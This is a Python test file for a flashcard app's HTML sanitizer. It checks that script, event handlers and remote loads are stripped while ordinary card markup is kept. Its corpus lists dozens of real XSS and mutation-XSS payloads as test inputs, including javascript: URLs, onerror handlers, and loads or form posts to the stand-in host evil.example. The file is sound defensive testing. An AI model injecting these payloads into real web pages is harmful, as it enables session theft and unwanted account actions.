"""Card HTML sanitizing: an XSS corpus must come out harmless, real card HTML intact.

Outputs are checked by parsing them with html.parser and looking at every tag
and attribute, not by searching for substrings.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from flashcards.sanitize import sanitize_card_html


def media_url(name: str) -> str:
    return f"/media/7/{name}"


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.comments.append(data)


def parse(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    assert not collector.comments
    return collector.elements


FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "meta", "base", "link", "form", "style", "noscript", "template", "textarea", "select",
    "isindex", "xmp", "title", "body", "html", "head", "param", "portal",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "poster", "background", "srcset",
    "xlink:href", "codebase", "cite", "longdesc", "lowsrc", "dynsrc", "ping", "manifest",
}  # fmt: skip
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):", re.I)


def _url(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value).lower()


def assert_harmless(html: str) -> None:
    for tag, attrs in parse(html):
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name)
            assert not name.startswith("hx-"), (tag, name)
            if name.startswith("data-"):
                assert name in {"data-cloze", "data-ordinal", "data-av"} or (
                    tag == "button" and name.startswith("data-tts-")
                ), (tag, name)
            assert name not in {"srcdoc", "formaction", "action", "srcset", "form"}, (tag, name)
            if name in URL_ATTRIBUTES:
                url = _url(value)
                scheme = _SCHEME.match(url)
                if name == "href":
                    assert scheme is None or scheme.group(1) in {"http", "https", "mailto"}, url
                else:
                    assert not url.startswith(("//", "\\")), url
                    if scheme:
                        assert tag == "img" and re.match(r"data:image/(png|gif|jpe?g|webp)", url)
                    else:
                        assert url.startswith("/media/7/") or "/" not in url, url
            if name == "style":
                style = value.lower().replace("\\", "")
                for bad in ("expression", "@import", "javascript:", "behavior", "binding"):
                    assert bad not in style, style
                for target in re.findall(r"url\(([^)]*)\)", style):
                    assert target.strip("\"' ").startswith("/media/7/"), style
        if tag == "input":
            assert attrs.get("type", "text") == "text"
            assert attrs.get("name", "typed_answer") == "typed_answer"
            assert "value" not in attrs
        if tag == "button":
            assert attrs.get("type") == "button"
    # What comes out is stable: parsing it again gives the same thing.
    assert sanitize_card_html(html, media_url=media_url) == html


XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)" onload=alert(2)>',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<details open ontoggle=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<IMG SRC="jav\tascript:alert(1);">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<img src=http://evil.example/track.png>",
    "<img src=//evil.example/track.png>",
    "<img src=\\\\evil.example\\track.png>",
    "<img src=/accounts/logout>",
    '<img src="/media/7/../../accounts/logout">',
    '<img srcset="http://evil.example/a.png 1x">',
    '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>',
    '<table background="javascript:alert(1)"><tr><td background="http://evil.example/x"></td></tr></table>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<object data="javascript:alert(1)"></object>',
    '<object data="x.swf"><param name="allowScriptAccess" value="always"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="http://evil.example"><input name="password"></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex action="javascript:alert(1)" type="image">',
    '<button type="submit" form="grade" name="rating" value="4">Easy</button>',
    '<input type="hidden" name="rating" value="4" form="grade">',
    '<div data-hx-post="/accounts/delete" data-hx-trigger="load">x</div>',
    '<div hx-get="/accounts/logout" hx-trigger="load">x</div>',
    '<button data-confirm="Delete everything?" data-browser-timezone>x</button>',
    '<div style="background:url(http://evil.example/x.png)">x</div>',
    "<div style=\"background:url('http://evil.example/x.png')\">x</div>",
    '<div style="background:u\\72 l(http://evil.example/x.png)">x</div>',
    '<div style="background:url(&quot;javascript:alert(1)&quot;)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(http://evil.example/x.xml#xss)">x</div>',
    "<div style=\"background-image: image-set('http://evil.example/a.png' 1x)\">x</div>",
    "<div style=\"@import 'http://evil.example/x.css'\">x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    # Mutation XSS: markup that means one thing to a sanitizer and another to a browser.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="#" onclick="alert(1)">x</a>',
    '<img """><script>alert(1)</script>">',
    "<<script>alert(1)//<</script>",
    '<img src="x` `<script>alert(1)</script>"` `>',
]


@pytest.mark.parametrize("html", XSS_CORPUS)
def test_it_leaves_nothing_that_can_run_script_or_load_remote_content(html):
    assert_harmless(sanitize_card_html(html, media_url=media_url))


@pytest.mark.parametrize("html", XSS_CORPUS)
def test_it_is_just_as_strict_without_a_media_url(html):
    cleaned = sanitize_card_html(html)
    for tag, attrs in parse(cleaned):
        assert tag not in FORBIDDEN_TAGS
        assert not any(name.startswith("on") for name in attrs)
        if "src" in attrs:
            assert not _SCHEME.match(_url(attrs["src"])) or attrs["src"].startswith("data:image/")
            assert not _url(attrs["src"]).startswith(("//", "/acc", "\\"))


def test_it_drops_script_content_entirely():
    assert sanitize_card_html("a<script>alert(1)</script>b") == "ab"
    assert sanitize_card_html("a<style>p{color:red}</style>b") == "ab"
    assert sanitize_card_html("a<svg><text>x</text></svg>b") == "ab"


def test_it_keeps_inline_raster_images():
    html = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitize_card_html(html) == html


def test_it_strips_only_the_unsafe_declarations_from_a_style():
    cleaned = sanitize_card_html(
        '<span style="color: red; background: url(http://evil.example/x); '
        'font-weight: bold">x</span>'
    )
    assert cleaned == '<span style="color: red; font-weight: bold">x</span>'


def test_it_points_media_at_the_owners_files():
    cleaned = sanitize_card_html(
        '<img src="cat%20one.jpg"><div style="background-image: url(_bg.png)"></div>'
        '<audio controls src="a.mp3"></audio>',
        media_url=media_url,
    )
    assert parse(cleaned) == [
        ("img", {"src": "/media/7/cat one.jpg"}),
        ("div", {"style": 'background-image: url("/media/7/_bg.png")'}),
        ("audio", {"controls": "", "src": "/media/7/a.mp3"}),
    ]


BENIGN = {
    "formatting": "<b>bold</b> <i>it</i> <u>u</u> <s>s</s> <sub>2</sub><sup>3</sup> <br>"
    "<strong>s</strong> <em>e</em> <code>c</code> <pre>p</pre> <small>s</small>",
    "lists": '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
    "ruby": "<ruby><rb>日本</rb><rt>にほん</rt></ruby>"
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    "table": '<table border="1"><thead><tr><th colspan="2">h</th></tr></thead>'
    '<tbody><tr><td rowspan="2">a</td><td>b</td></tr></tbody></table>',
    "colored spans": '<span style="color: rgb(255, 0, 0)">red</span>'
    '<font color="#00f">blue</font><div class="x" style="text-align: center">c</div>',
    "picture": '<img src="cat.jpg" alt="a cat" width="100">',
    "audio": '<audio class="card-sound" controls="" preload="none" data-av="q:0" '
    'src="a.mp3"></audio>',
    "cloze": '<span class="cloze" data-cloze="a&amp;b" data-ordinal="1">[...]</span>'
    '<span class="cloze-inactive" data-ordinal="2">b</span>',
    "type answer box": '<center><input type="text" id="typeans" class="typeans-input" '
    'name="typed_answer" autocomplete="off" autocapitalize="off" spellcheck="false" '
    'style="font-size: 20px"></center>',
    "answer comparison": '<hr id="answer"><code id="typeans"><span class="typeGood">a'
    '</span><span class="typeBad">b</span><br><span id="typearrow">↓</span></code>',
    "hint": '<details class="hint"><summary class="hint-link">Back</summary>'
    '<div class="hint">b</div></details>',
    "tts button": '<button type="button" class="tts-play" data-av="q:1" data-tts-text="hi" '
    'data-tts-lang="en_US" data-tts-voices="" data-tts-speed="1" aria-label="Speak" '
    'title="Speak">🔊</button>',
    "link": '<a href="https://ankiweb.net/shared" rel="noopener noreferrer">shared</a>',
}


@pytest.mark.parametrize("name", BENIGN)
def test_it_keeps_card_html(name):
    html = BENIGN[name]
    cleaned = sanitize_card_html(html)
    assert parse(cleaned) == parse(html)
    assert_text = re.sub(r"<[^>]+>", "", html)
    assert re.sub(r"<[^>]+>", "", cleaned) == assert_text
